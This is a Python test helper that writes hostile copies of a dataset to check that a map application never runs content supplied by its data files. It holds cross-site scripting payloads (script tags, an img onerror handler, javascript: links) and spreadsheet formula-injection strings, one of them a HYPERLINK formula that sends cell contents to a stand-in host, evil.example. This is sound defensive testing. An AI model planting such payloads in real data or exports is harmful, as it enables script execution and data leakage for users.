"""Hostile copies of the dataset, for the tests that check nothing a data file supplies is run:
markup and script in the texts (the browser tests), and a spreadsheet formula in every free-text
cell (the download tests). Both copies stay valid, so the atlas opens them."""
from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

from tests.conftest import DATA

SCRIPT_PAYLOAD = "<script>window.__xss = 'script'</script>"
IMG_PAYLOAD = "<img src=x onerror=\"window.__xss = 'img'\">"

# Cells a spreadsheet would run: at the start of the cell, after a tab, or after a line break
# that a careless CSV writer leaves unquoted (the next row then begins with the formula). Each
# one is a whole formula that a spreadsheet computes to something other than its own text.
FORMULA_PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "x\r=1+1",
    "x\n=1+1",
    "x\r\n@SUM(1,1)",
    " =1+1",
    'x","=1+1',
    "=1+1\r",
)


def rewrite_table(path: Path, change) -> None:
    """Apply ``change(rows)`` to a CSV (rows as dicts, header kept) and write it back, every
    cell quoted (a CR in a cell must be quoted to stay in it)."""
    with open(path, newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        fields, rows = reader.fieldnames, list(reader)
    change(rows)
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=fields, lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)


def write_hostile_dataset(target: Path) -> None:
    """A valid copy of the dataset whose texts carry markup and script (the browser tests)."""
    shutil.copytree(DATA, target)

    def events(rows):
        for row in rows:
            if row["id"] == "ev-1998-taliban-capture-mazar":
                row["title"] = f"Mazar {IMG_PAYLOAD}"[:120]
                row["description"] = f"{SCRIPT_PAYLOAD} {IMG_PAYLOAD} [link](javascript:alert(1))"
                row["outcome"] = SCRIPT_PAYLOAD

    def periods(rows):
        for row in rows:
            if row["province_code"] == "AF-BAL" and row["faction"] == "taliban" and row["start"].startswith("1998"):
                row["note"] = f"{SCRIPT_PAYLOAD} {IMG_PAYLOAD} **bold?**"

    def sources(rows):
        rows[0]["citation"] = f"{IMG_PAYLOAD} {SCRIPT_PAYLOAD}"
        rows[0]["url"] = "javascript:alert(1)"

    def factions(rows):
        for row in rows:
            if row["id"] == "taliban":
                row["short_name"] = "<b>Taliban</b>"

    rewrite_table(target / "events.csv", events)
    rewrite_table(target / "control_periods.csv", periods)
    rewrite_table(target / "sources.csv", sources)
    rewrite_table(target / "factions.csv", factions)


def free_text_fields(data_dir: Path) -> dict[str, dict[str, int | None]]:
    """``{file: {column: maxLength or None}}``: the text columns the descriptor leaves free (no
    enum, pattern or format; not an id, a reference or a list) — where a data file can put any
    text."""
    descriptor = json.loads((data_dir / "datapackage.json").read_text(encoding="utf-8"))
    free = {}
    for resource in descriptor["resources"]:
        schema = resource.get("schema", {})
        keys = set(schema.get("primaryKey") or []) | {name for key in schema.get("foreignKeys", [])
                                                      for name in key["fields"]}
        columns = {field["name"]: field.get("constraints", {}).get("maxLength") for field in schema.get("fields", [])
                   if field["type"] == "string" and "format" not in field and "listSeparator" not in field
                   and not {"enum", "pattern"} & set(field.get("constraints", {})) and field["name"] not in keys}
        if columns:
            free[resource["path"]] = columns
    return free


def write_formula_dataset(target: Path) -> dict[str, dict[str, int | None]]:
    """A valid copy of the dataset with a spreadsheet formula (:data:`FORMULA_PAYLOADS`, in turn,
    each that fits the column's length) in every free-text cell (:func:`free_text_fields`): the
    whole cell, or, for the story's chapters (which must keep 80-180 words), after the text.
    Returns the free-text columns."""
    shutil.copytree(DATA, target)
    free = free_text_fields(target)
    turn = iter(range(10**9))

    def fill(columns):
        def change(rows):
            for row in rows:
                for column, longest in columns.items():
                    fitting = [p for p in FORMULA_PAYLOADS if longest is None or len(p) <= longest]
                    payload = fitting[next(turn) % len(fitting)]
                    row[column] = row[column] + payload if column == "text" else payload
        return change

    for path, columns in free.items():
        rewrite_table(target / path, fill(columns))
    return free
